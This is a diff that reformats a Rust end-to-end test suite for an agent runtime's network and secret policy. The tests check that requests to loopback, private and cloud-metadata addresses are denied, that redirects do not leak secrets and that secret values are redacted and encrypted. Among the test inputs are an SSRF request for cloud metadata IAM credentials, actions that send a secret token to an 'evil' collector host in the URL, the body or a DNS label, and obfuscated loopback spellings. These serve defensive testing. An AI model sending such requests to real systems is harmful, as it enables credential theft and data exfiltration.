@@ -49,19 +49,33 @@ impl Server {
                 });
             }
         });
-        Server { port, hits, received }
+        Server {
+            port,
+            hits,
+            received,
+        }
     }
 
     /// 200 with a small JSON body.
     fn ok() -> Server {
-        Server::start(Arc::new(|_| (200, "Content-Type: application/json\r\n".into(), br#"{"ok":true}"#.to_vec())))
+        Server::start(Arc::new(|_| {
+            (
+                200,
+                "Content-Type: application/json\r\n".into(),
+                br#"{"ok":true}"#.to_vec(),
+            )
+        }))
     }
 
     /// Echoes the request: its `authorization` header in an `x-echo` response header, and
     /// path, headers and body in the JSON body.
     fn echo() -> Server {
         Server::start(Arc::new(|r: &Received| {
-            let auth = r.headers.iter().find(|(k, _)| k.eq_ignore_ascii_case("authorization")).map(|(_, v)| v.clone());
+            let auth = r
+                .headers
+                .iter()
+                .find(|(k, _)| k.eq_ignore_ascii_case("authorization"))
+                .map(|(_, v)| v.clone());
             let extra = match &auth {
                 Some(v) => format!("X-Echo: {v}\r\n"),
                 None => String::new(),
@@ -73,7 +87,9 @@ impl Server {
 
     /// 302 to `target` for every request.
     fn redirect_to(target: String) -> Server {
-        Server::start(Arc::new(move |_| (302, format!("Location: {target}\r\n"), Vec::new())))
+        Server::start(Arc::new(move |_| {
+            (302, format!("Location: {target}\r\n"), Vec::new())
+        }))
     }
 
     fn url(&self, path: &str) -> String {
@@ -89,7 +105,12 @@ impl Server {
     }
 }
 
-fn serve(stream: TcpStream, hits: &AtomicUsize, received: &Mutex<Vec<Received>>, handler: &Handler) -> std::io::Result<()> {
+fn serve(
+    stream: TcpStream,
+    hits: &AtomicUsize,
+    received: &Mutex<Vec<Received>>,
+    handler: &Handler,
+) -> std::io::Result<()> {
     let mut reader = BufReader::new(stream.try_clone()?);
     let mut request_line = String::new();
     reader.read_line(&mut request_line)?;
@@ -111,11 +132,23 @@ fn serve(stream: TcpStream, hits: &AtomicUsize, received: &Mutex<Vec<Received>>,
     let mut body = vec![0; content_length];
     reader.read_exact(&mut body)?;
     hits.fetch_add(1, Ordering::SeqCst);
-    let req = Received { path: request_line.split_whitespace().nth(1).unwrap_or("/").to_string(), headers, body };
+    let req = Received {
+        path: request_line
+            .split_whitespace()
+            .nth(1)
+            .unwrap_or("/")
+            .to_string(),
+        headers,
+        body,
+    };
     received.lock().unwrap().push(req.clone());
     let (status, extra, body) = handler(&req);
     let mut s = stream;
-    write!(s, "HTTP/1.1 {status} X\r\nContent-Length: {}\r\nConnection: close\r\n{extra}\r\n", body.len())?;
+    write!(
+        s,
+        "HTTP/1.1 {status} X\r\nContent-Length: {}\r\nConnection: close\r\n{extra}\r\n",
+        body.len()
+    )?;
     s.write_all(&body)?;
     s.flush()
 }
@@ -172,14 +205,25 @@ fn get_action(url: &str) -> String {
 
 /// An agent for `tenant` with `hosts` and `secrets` granted.
 fn agent_with(tenant: &str, hosts: &[&str], secrets: &[&str]) -> String {
-    let mut args = vec!["--json", "agent", "create", "--name", "e2e-net", "--tenant-id", tenant];
+    let mut args = vec![
+        "--json",
+        "agent",
+        "create",
+        "--name",
+        "e2e-net",
+        "--tenant-id",
+        tenant,
+    ];
     for h in hosts {
         args.extend(["--allow-host", h]);
     }
     for s in secrets {
         args.extend(["--allow-secret", s]);
     }
-    runtime(&args).ok().json()["agent_id"].as_str().expect("agent_id").to_string()
+    runtime(&args).ok().json()["agent_id"]
+        .as_str()
+        .expect("agent_id")
+        .to_string()
 }
 
 /// `runtime secret set NAME` with `value` on stdin.
@@ -196,14 +240,23 @@ fn set_secret(tenant: &str, name: &str, value: &str, hosts: &[&str]) -> Value {
         .spawn()
         .unwrap();
     // Written with a trailing newline, as `echo` would: it must be trimmed.
-    child.stdin.take().unwrap().write_all(format!("{value}\n").as_bytes()).unwrap();
+    child
+        .stdin
+        .take()
+        .unwrap()
+        .write_all(format!("{value}\n").as_bytes())
+        .unwrap();
     let r: Run = child.wait_with_output().unwrap().into();
     r.ok().json()
 }
 
 /// Every stored payload of `run_id`, as text (lossy), in step order.
 async fn payloads(run_id: &str) -> Vec<String> {
-    stored_payloads(run_id).await.iter().map(|b| String::from_utf8_lossy(b).into_owned()).collect()
+    stored_payloads(run_id)
+        .await
+        .iter()
+        .map(|b| String::from_utf8_lossy(b).into_owned())
+        .collect()
 }
 
 /// The host.http steps of `run_id` (payload JSON).
@@ -225,28 +278,53 @@ fn verified(run_id: &str, tenant: &str) {
 
 /// Runs `actions` as the probe under an agent granted `hosts`, expects a failed run whose
 /// last host.http step is a recorded denial containing `reason`; returns (run_id, message).
-async fn denied_run(name: &str, hosts: &[&str], actions: &[String], reason: &str) -> (String, String) {
+async fn denied_run(
+    name: &str,
+    hosts: &[&str],
+    actions: &[String],
+    reason: &str,
+) -> (String, String) {
     add_test_skill("probe");
     let tenant = tenant(name);
     let agent_id = agent_with(&tenant, hosts, &[]);
     denied_run_as(&tenant, &agent_id, actions, reason).await
 }
 
-async fn denied_run_as(tenant: &str, agent_id: &str, actions: &[String], reason: &str) -> (String, String) {
+async fn denied_run_as(
+    tenant: &str,
+    agent_id: &str,
+    actions: &[String],
+    reason: &str,
+) -> (String, String) {
     let r = run_plan(agent_id, tenant, &probe_plan(actions));
     assert_eq!(r.code, 3, "a denied request fails the run (exit 3): {r:?}");
     let report = r.json();
     assert_eq!(report["status"], "failed");
-    let error = report["error_message"].as_str().unwrap_or_default().to_string();
-    assert!(error.contains("http-denied"), "the run's reason names the denial: {error}");
+    let error = report["error_message"]
+        .as_str()
+        .unwrap_or_default()
+        .to_string();
+    assert!(
+        error.contains("http-denied"),
+        "the run's reason names the denial: {error}"
+    );
     let run_id = report["run_id"].as_str().unwrap().to_string();
     let http = http_steps(&run_id).await;
     let last = http.last().expect("the denied attempt is a recorded step");
     assert_eq!(last["status"], "failure", "{last}");
     assert_eq!(last["body"]["error"]["code"], "denied", "{last}");
-    let message = last["body"]["error"]["message"].as_str().unwrap().to_string();
-    assert!(message.contains(reason), "denial {message:?} should say {reason:?}");
-    assert!(error.contains(reason), "the run's error should carry the reason {reason:?}: {error}");
+    let message = last["body"]["error"]["message"]
+        .as_str()
+        .unwrap()
+        .to_string();
+    assert!(
+        message.contains(reason),
+        "denial {message:?} should say {reason:?}"
+    );
+    assert!(
+        error.contains(reason),
+        "the run's error should carry the reason {reason:?}: {error}"
+    );
     verified(&run_id, tenant);
     (run_id, message)
 }
@@ -257,8 +335,18 @@ async fn denied_run_as(tenant: &str, agent_id: &str, actions: &[String], reason:
 #[tokio::test]
 async fn loopback_is_denied_under_a_wildcard_grant() {
     let server = Server::ok();
-    denied_run("net-loopback", &["http://*:*"], &[get_action(&server.url("/ok"))], "127.0.0.1 is a loopback address").await;
-    assert_eq!(server.hits(), 0, "a denied destination must not be contacted");
+    denied_run(
+        "net-loopback",
+        &["http://*:*"],
+        &[get_action(&server.url("/ok"))],
+        "127.0.0.1 is a loopback address",
+    )
+    .await;
+    assert_eq!(
+        server.hits(),
+        0,
+        "a denied destination must not be contacted"
+    );
 }
 
 #[tokio::test]
@@ -266,18 +354,32 @@ async fn cloud_metadata_is_denied() {
     let (_, m) = denied_run(
         "net-metadata",
         &["http://*:*", "http://169.254.0.0/16:*"],
-        &[get_action("http://169.254.169.254/latest/meta-data/iam/security-credentials/")],
+        &[get_action(
+            "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
+        )],
         "169.254.169.254 is a cloud metadata address",
     )
     .await;
     assert!(m.contains("by its exact IP"), "{m}");
-    denied_run("net-metadata6", &["http://*:*"], &[get_action("http://[fd00:ec2::254]/latest/")], "cloud metadata").await;
+    denied_run(
+        "net-metadata6",
+        &["http://*:*"],
+        &[get_action("http://[fd00:ec2::254]/latest/")],
+        "cloud metadata",
+    )
+    .await;
 }
 
 #[tokio::test]
 async fn private_address_by_decimal_ip_is_denied() {
     // 167772161 = 10.0.0.1.
-    denied_run("net-decimal", &["http://*:*"], &[get_action("http://167772161/")], "10.0.0.1 is a private (RFC 1918) address").await;
+    denied_run(
+        "net-decimal",
+        &["http://*:*"],
+        &[get_action("http://167772161/")],
+        "10.0.0.1 is a private (RFC 1918) address",
+    )
+    .await;
 }
 
 #[tokio::test]
@@ -297,7 +399,13 @@ async fn loopback_by_octal_hex_short_and_ipv4_mapped_spellings_is_denied() {
     .iter()
     .enumerate()
     {
-        denied_run(&format!("net-spelling{i}"), &["http://*:*"], &[get_action(url)], "127.0.0.1 is a loopback address").await;
+        denied_run(
+            &format!("net-spelling{i}"),
+            &["http://*:*"],
+            &[get_action(url)],
+            "127.0.0.1 is a loopback address",
+        )
+        .await;
     }
     assert_eq!(server.hits(), 0);
 }
@@ -306,7 +414,13 @@ async fn loopback_by_octal_hex_short_and_ipv4_mapped_spellings_is_denied() {
 async fn a_name_that_resolves_to_loopback_is_denied() {
     let server = Server::ok();
     let url = format!("http://localhost:{}/ok", server.port);
-    denied_run("net-localhost", &["http://*:*"], &[get_action(&url)], "(localhost resolves to it)").await;
+    denied_run(
+        "net-localhost",
+        &["http://*:*"],
+        &[get_action(&url)],
+        "(localhost resolves to it)",
+    )
+    .await;
     assert_eq!(server.hits(), 0);
 }
 
@@ -325,7 +439,11 @@ async fn a_redirect_from_an_allowed_host_to_loopback_is_denied() {
     .await;
     assert!(m.starts_with("redirect hop 1:"), "{m}");
     assert_eq!(front.hits(), 1, "the allowed host was asked");
-    assert_eq!(internal.hits(), 0, "the redirect target must not be contacted");
+    assert_eq!(
+        internal.hits(),
+        0,
+        "the redirect target must not be contacted"
+    );
 }
 
 #[tokio::test]
@@ -335,16 +453,28 @@ async fn a_slow_server_cannot_hold_the_run() {
     let tenant = tenant("net-slow");
     let agent_id = agent_with(&tenant, &["http://127.0.0.1:*"], &[]);
     let started = Instant::now();
-    let action = request_action(json!({"url": format!("http://127.0.0.1:{port}/"), "timeout_ms": 1000}));
+    let action =
+        request_action(json!({"url": format!("http://127.0.0.1:{port}/"), "timeout_ms": 1000}));
     let r = run_plan(&agent_id, &tenant, &probe_plan(&[action]));
     // Generous bound: the server would trickle for 120 s.
-    assert!(started.elapsed() < Duration::from_secs(60), "the run was held for {:?}", started.elapsed());
+    assert!(
+        started.elapsed() < Duration::from_secs(60),
+        "the run was held for {:?}",
+        started.elapsed()
+    );
     assert_eq!(r.code, 3, "{r:?}");
     assert!(hits.load(Ordering::SeqCst) >= 1, "the server was reached");
     let run_id = r.json()["run_id"].as_str().unwrap().to_string();
     let http = http_steps(&run_id).await;
     assert_eq!(http[0]["body"]["error"]["code"], "timeout", "{}", http[0]);
-    assert!(http[0]["body"]["error"]["message"].as_str().unwrap().contains("timeout of 1000 ms"), "{}", http[0]);
+    assert!(
+        http[0]["body"]["error"]["message"]
+            .as_str()
+            .unwrap()
+            .contains("timeout of 1000 ms"),
+        "{}",
+        http[0]
+    );
     verified(&run_id, &tenant);
 }
 
@@ -356,8 +486,17 @@ async fn a_slow_server_cannot_hold_the_run_past_the_agents_deadline() {
     let (port, hits) = trickling_server();
     let tenant = tenant("net-deadline");
     let agent_id = runtime(&[
-        "--json", "agent", "create", "--name", "e2e-deadline", "--tenant-id", &tenant,
-        "--allow-host", "http://127.0.0.1:*", "--timeout", "2s",
+        "--json",
+        "agent",
+        "create",
+        "--name",
+        "e2e-deadline",
+        "--tenant-id",
+        &tenant,
+        "--allow-host",
+        "http://127.0.0.1:*",
+        "--timeout",
+        "2s",
     ])
     .ok()
     .json()["agent_id"]
@@ -365,14 +504,25 @@ async fn a_slow_server_cannot_hold_the_run_past_the_agents_deadline() {
         .unwrap()
         .to_string();
     let started = Instant::now();
-    let r = run_plan(&agent_id, &tenant, &probe_plan(&[get_action(&format!("http://127.0.0.1:{port}/"))]));
+    let r = run_plan(
+        &agent_id,
+        &tenant,
+        &probe_plan(&[get_action(&format!("http://127.0.0.1:{port}/"))]),
+    );
     // Generous bound, well under the 30 s request default and the server's 120 s.
-    assert!(started.elapsed() < Duration::from_secs(20), "the run was held for {:?}", started.elapsed());
+    assert!(
+        started.elapsed() < Duration::from_secs(20),
+        "the run was held for {:?}",
+        started.elapsed()
+    );
     assert_eq!(r.code, 3, "{r:?}");
     assert!(hits.load(Ordering::SeqCst) >= 1, "the server was reached");
     let report = r.json();
     let error = report["error_message"].as_str().unwrap_or_default();
-    assert!(error.contains("deadline"), "the reason names the deadline: {error}");
+    assert!(
+        error.contains("deadline"),
+        "the reason names the deadline: {error}"
+    );
     verified(report["run_id"].as_str().unwrap(), &tenant);
 }
 
@@ -387,16 +537,29 @@ async fn secret_exfiltration_to_another_host_in_the_url_or_body_is_denied() {
     let good = Server::echo();
     let evil = Server::echo();
     let tenant = tenant("net-exfil");
-    set_secret(&tenant, "TOKEN", VALUE, &[&format!("http://127.0.0.1:{}", good.port)]);
+    set_secret(
+        &tenant,
+        "TOKEN",
+        VALUE,
+        &[&format!("http://127.0.0.1:{}", good.port)],
+    );
     let agent_id = agent_with(&tenant, &["http://127.0.0.1:*"], &["TOKEN"]);
-    let denial = format!("secret TOKEN is not granted for host http://127.0.0.1:{}", evil.port);
+    let denial = format!(
+        "secret TOKEN is not granted for host http://127.0.0.1:{}",
+        evil.port
+    );
 
     let in_url = get_action(&evil.url("/collect?k={{secret:TOKEN}}"));
     let (run1, _) = denied_run_as(&tenant, &agent_id, &[in_url], &denial).await;
-    let in_body = request_action(json!({"method": "POST", "url": evil.url("/collect"), "body": "stolen={{secret:TOKEN}}"}));
+    let in_body = request_action(
+        json!({"method": "POST", "url": evil.url("/collect"), "body": "stolen={{secret:TOKEN}}"}),
+    );
     let (run2, _) = denied_run_as(&tenant, &agent_id, &[in_body], &denial).await;
     // In the host part the value would go to DNS before any check: refused outright.
-    let in_host = get_action(&format!("http://{{{{secret:TOKEN}}}}.example.com:{}/", good.port));
+    let in_host = get_action(&format!(
+        "http://{{{{secret:TOKEN}}}}.example.com:{}/",
+        good.port
+    ));
     let r = run_plan(&agent_id, &tenant, &probe_plan(&[in_host]));
     assert_eq!(r.code, 3, "{r:?}");
 
@@ -404,7 +567,10 @@ async fn secret_exfiltration_to_another_host_in_the_url_or_body_is_denied() {
     assert_eq!(good.hits(), 0);
     for run in [run1, run2] {
         for p in payloads(&run).await {
-            assert!(!p.contains(VALUE), "a stored step holds the secret value: {p}");
+            assert!(
+                !p.contains(VALUE),
+                "a stored step holds the secret value: {p}"
+            );
         }
     }
 }
@@ -414,13 +580,24 @@ async fn a_secret_reaches_its_allowed_host_and_never_the_trace() {
     add_test_skill("probe");
     let server = Server::ok();
     let tenant = tenant("net-secret-ok");
-    let info = set_secret(&tenant, "TOKEN", VALUE, &[&format!("http://127.0.0.1:{}", server.port)]);
+    let info = set_secret(
+        &tenant,
+        "TOKEN",
+        VALUE,
+        &[&format!("http://127.0.0.1:{}", server.port)],
+    );
     assert_eq!(info["name"], "TOKEN");
     assert!(!info.to_string().contains(VALUE));
     // Stored for the tenant but not granted to the agent: not in the effective set.
     set_secret(&tenant, "OTHER", "other-value-123", &["http://127.0.0.1:*"]);
     let listed = runtime(&["--json", "secret", "list", "--tenant-id", &tenant]).ok();
-    assert!(!listed.stdout.contains(VALUE) && listed.stdout.contains("TOKEN") && listed.stdout.contains("OTHER"), "{}", listed.stdout);
+    assert!(
+        !listed.stdout.contains(VALUE)
+            && listed.stdout.contains("TOKEN")
+            && listed.stdout.contains("OTHER"),
+        "{}",
+        listed.stdout
+    );
 
     // The grant names 127.0.0.1 explicitly (the special-address rule).
     let agent_id = agent_with(&tenant, &["http://127.0.0.1:*"], &["TOKEN"]);
@@ -432,38 +609,81 @@ async fn a_secret_reaches_its_allowed_host_and_never_the_trace() {
     }));
     let r = run_plan(&agent_id, &tenant, &probe_plan(&[action]));
     assert_eq!(r.code, 0, "{r:?}");
-    assert!(!r.stdout.contains(VALUE), "the skill's output holds the value: {}", r.stdout);
+    assert!(
+        !r.stdout.contains(VALUE),
+        "the skill's output holds the value: {}",
+        r.stdout
+    );
 
     // The server got the value in all three places.
     let got = server.received();
     assert_eq!(got.len(), 1);
     assert_eq!(got[0].path, format!("/use?key={VALUE}"));
-    assert!(got[0].headers.iter().any(|(k, v)| k.eq_ignore_ascii_case("authorization") && v == &format!("Bearer {VALUE}")));
-    assert_eq!(String::from_utf8_lossy(&got[0].body), format!("{{\"token\":\"{VALUE}\"}}"));
+    assert!(
+        got[0].headers.iter().any(
+            |(k, v)| k.eq_ignore_ascii_case("authorization") && v == &format!("Bearer {VALUE}")
+        )
+    );
+    assert_eq!(
+        String::from_utf8_lossy(&got[0].body),
+        format!("{{\"token\":\"{VALUE}\"}}")
+    );
 
     // Not one stored byte of the run holds it: every step, and the run row.
     let run_id = r.json()["run_id"].as_str().unwrap().to_string();
     let all = payloads(&run_id).await;
     assert!(all.len() >= 4);
     for p in &all {
-        assert!(!p.contains(VALUE), "a stored step holds the secret value: {p}");
+        assert!(
+            !p.contains(VALUE),
+            "a stored step holds the secret value: {p}"
+        );
     }
     let db = superuser().await;
-    let row: String = sqlx::query_scalar("SELECT row_to_json(r)::text FROM runs r WHERE id = $1").bind(&run_id).fetch_one(&db).await.unwrap();
+    let row: String = sqlx::query_scalar("SELECT row_to_json(r)::text FROM runs r WHERE id = $1")
+        .bind(&run_id)
+        .fetch_one(&db)
+        .await
+        .unwrap();
     assert!(!row.contains(VALUE));
-    let stored: Vec<Vec<u8>> = sqlx::query_scalar("SELECT ciphertext FROM tenant_secrets WHERE tenant_id = $1").bind(&tenant).fetch_all(&db).await.unwrap();
-    assert!(stored.iter().all(|c| !c.windows(VALUE.len()).any(|w| w == VALUE.as_bytes())), "values are encrypted at rest");
+    let stored: Vec<Vec<u8>> =
+        sqlx::query_scalar("SELECT ciphertext FROM tenant_secrets WHERE tenant_id = $1")
+            .bind(&tenant)
+            .fetch_all(&db)
+            .await
+            .unwrap();
+    assert!(
+        stored
+            .iter()
+            .all(|c| !c.windows(VALUE.len()).any(|w| w == VALUE.as_bytes())),
+        "values are encrypted at rest"
+    );
 
     // The trace records the placeholder, and run.start lists the effective names only.
     let http = http_steps(&run_id).await;
-    assert!(http[0]["body"]["request"]["headers"][0][1] == "Bearer {{secret:TOKEN}}", "{}", http[0]);
+    assert!(
+        http[0]["body"]["request"]["headers"][0][1] == "Bearer {{secret:TOKEN}}",
+        "{}",
+        http[0]
+    );
     let start: Value = serde_json::from_str(&all[0]).unwrap();
-    assert_eq!(start["body"]["policy"]["secrets"]["probe"], json!(["TOKEN"]), "{start}");
+    assert_eq!(
+        start["body"]["policy"]["secrets"]["probe"],
+        json!(["TOKEN"]),
+        "{start}"
+    );
     verified(&run_id, &tenant);
 
     // OTHER exists but is not granted to the agent: using it is a recorded denial.
-    let other = request_action(json!({"url": server.url("/"), "headers": [["x-k", "{{secret:OTHER}}"]]}));
-    denied_run_as(&tenant, &agent_id, &[other], "secret OTHER is not available to this skill").await;
+    let other =
+        request_action(json!({"url": server.url("/"), "headers": [["x-k", "{{secret:OTHER}}"]]}));
+    denied_run_as(
+        &tenant,
+        &agent_id,
+        &[other],
+        "secret OTHER is not available to this skill",
+    )
+    .await;
     assert_eq!(server.hits(), 1);
 
     // rm removes it; list no longer shows it.
@@ -477,23 +697,47 @@ async fn an_echoed_secret_is_redacted_before_the_skill_and_the_trace_see_it() {
     add_test_skill("probe");
     let server = Server::echo();
     let tenant = tenant("net-echo");
-    set_secret(&tenant, "TOKEN", VALUE, &[&format!("http://127.0.0.1:{}", server.port)]);
+    set_secret(
+        &tenant,
+        "TOKEN",
+        VALUE,
+        &[&format!("http://127.0.0.1:{}", server.port)],
+    );
     let agent_id = agent_with(&tenant, &["http://127.0.0.1:*"], &["TOKEN"]);
-    let action = request_action(json!({"url": server.url("/echo"), "headers": [["authorization", "Bearer {{secret:TOKEN}}"]]}));
+    let action = request_action(
+        json!({"url": server.url("/echo"), "headers": [["authorization", "Bearer {{secret:TOKEN}}"]]}),
+    );
     let r = run_plan(&agent_id, &tenant, &probe_plan(&[action]));
     assert_eq!(r.code, 0, "{r:?}");
-    assert_eq!(server.received()[0].headers.iter().find(|(k, _)| k == "authorization").map(|(_, v)| v.as_str()), Some(&*format!("Bearer {VALUE}")));
+    assert_eq!(
+        server.received()[0]
+            .headers
+            .iter()
+            .find(|(k, _)| k == "authorization")
+            .map(|(_, v)| v.as_str()),
+        Some(&*format!("Bearer {VALUE}"))
+    );
 
     // What the skill saw (its output) has the value redacted, in headers and body.
     let out = &r.json()["steps"][0]["output"]["results"][0];
     assert!(!out.to_string().contains(VALUE), "{out}");
     let echoed: Value = serde_json::from_str(out["body"].as_str().unwrap()).unwrap();
     assert_eq!(echoed["authorization"], "Bearer [REDACTED:TOKEN]");
-    assert!(out["headers"].as_array().unwrap().iter().any(|h| h[0] == "x-echo" && h[1] == "Bearer [REDACTED:TOKEN]"), "{out}");
+    assert!(
+        out["headers"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .any(|h| h[0] == "x-echo" && h[1] == "Bearer [REDACTED:TOKEN]"),
+        "{out}"
+    );
 
     let run_id = r.json()["run_id"].as_str().unwrap().to_string();
     for p in payloads(&run_id).await {
-        assert!(!p.contains(VALUE), "a stored step holds the secret value: {p}");
+        assert!(
+            !p.contains(VALUE),
+            "a stored step holds the secret value: {p}"
+        );
     }
     verified(&run_id, &tenant);
 }
@@ -505,15 +749,32 @@ async fn a_redirect_never_carries_a_secret_outside_its_hosts() {
     let front = Server::redirect_to(elsewhere.url("/landing"));
     let tenant = tenant("net-secret-redirect");
     // The secret may go to the front server only; the agent may reach any 127.0.0.1 port.
-    set_secret(&tenant, "TOKEN", VALUE, &[&format!("http://127.0.0.1:{}", front.port)]);
+    set_secret(
+        &tenant,
+        "TOKEN",
+        VALUE,
+        &[&format!("http://127.0.0.1:{}", front.port)],
+    );
     let agent_id = agent_with(&tenant, &["http://127.0.0.1:*"], &["TOKEN"]);
-    let action = request_action(json!({"url": front.url("/start"), "headers": [["authorization", "Bearer {{secret:TOKEN}}"]]}));
-    let reason = format!("redirect hop 1: secret TOKEN is not granted for host http://127.0.0.1:{}", elsewhere.port);
+    let action = request_action(
+        json!({"url": front.url("/start"), "headers": [["authorization", "Bearer {{secret:TOKEN}}"]]}),
+    );
+    let reason = format!(
+        "redirect hop 1: secret TOKEN is not granted for host http://127.0.0.1:{}",
+        elsewhere.port
+    );
     let (run_id, _) = denied_run_as(&tenant, &agent_id, &[action], &reason).await;
     assert_eq!(front.hits(), 1, "the secret's own host got the request");
-    assert_eq!(elsewhere.hits(), 0, "the redirect target must not get the secret");
+    assert_eq!(
+        elsewhere.hits(),
+        0,
+        "the redirect target must not get the secret"
+    );
     for p in payloads(&run_id).await {
-        assert!(!p.contains(VALUE), "a stored step holds the secret value: {p}");
+        assert!(
+            !p.contains(VALUE),
+            "a stored step holds the secret value: {p}"
+        );
     }
 }
 
@@ -521,19 +782,45 @@ async fn a_redirect_never_carries_a_secret_outside_its_hosts() {
 fn secret_commands_refuse_bad_input_and_never_print_values() {
     let tenant = tenant("net-secret-cli");
     // Bad name, bad pattern, empty value: refused, nothing stored.
-    let bad_name = runtime(&["secret", "set", "no spaces", "--tenant-id", &tenant, "--allow-host", "https://a.example"]);
+    let bad_name = runtime(&[
+        "secret",
+        "set",
+        "no spaces",
+        "--tenant-id",
+        &tenant,
+        "--allow-host",
+        "https://a.example",
+    ]);
     assert_eq!(bad_name.code, 1, "{bad_name:?}");
-    let bad_pattern = runtime(&["secret", "set", "T", "--tenant-id", &tenant, "--allow-host", "api.example.com"]);
+    let bad_pattern = runtime(&[
+        "secret",
+        "set",
+        "T",
+        "--tenant-id",
+        &tenant,
+        "--allow-host",
+        "api.example.com",
+    ]);
     assert_eq!(bad_pattern.code, 1, "{bad_pattern:?}");
     let empty: Run = runtime_cmd()
-        .args(["secret", "set", "T", "--tenant-id", &tenant, "--allow-host", "https://a.example"])
+        .args([
+            "secret",
+            "set",
+            "T",
+            "--tenant-id",
+            &tenant,
+            "--allow-host",
+            "https://a.example",
+        ])
         .stdin(std::process::Stdio::null())
         .output()
         .unwrap()
         .into();
     assert_eq!(empty.code, 1, "{empty:?}");
     assert!(empty.stderr.contains("empty"), "{empty:?}");
-    let listed = runtime(&["--json", "secret", "list", "--tenant-id", &tenant]).ok().json();
+    let listed = runtime(&["--json", "secret", "list", "--tenant-id", &tenant])
+        .ok()
+        .json();
     assert_eq!(listed, json!([]));
     // Replacing keeps one row; rm of a missing one is an error.
     set_secret(&tenant, "T", "first-value", &["https://a.example"]);
@@ -543,10 +830,23 @@ fn secret_commands_refuse_bad_input_and_never_print_values() {
     assert!(!listed.stdout.contains("-value"), "{}", listed.stdout);
     assert_eq!(listed.json().as_array().unwrap().len(), 1);
     runtime(&["secret", "rm", "T", "--tenant-id", &tenant]).ok();
-    assert_eq!(runtime(&["secret", "rm", "T", "--tenant-id", &tenant]).code, 1);
+    assert_eq!(
+        runtime(&["secret", "rm", "T", "--tenant-id", &tenant]).code,
+        1
+    );
     // The key file is private.
     use std::os::unix::fs::PermissionsExt;
     let key = home().join("keys/secrets.key");
-    assert_eq!(std::fs::metadata(&key).unwrap().permissions().mode() & 0o777, 0o600);
-    assert_eq!(std::fs::metadata(home().join("keys")).unwrap().permissions().mode() & 0o777, 0o700);
+    assert_eq!(
+        std::fs::metadata(&key).unwrap().permissions().mode() & 0o777,
+        0o600
+    );
+    assert_eq!(
+        std::fs::metadata(home().join("keys"))
+            .unwrap()
+            .permissions()
+            .mode()
+            & 0o777,
+        0o700
+    );
 }
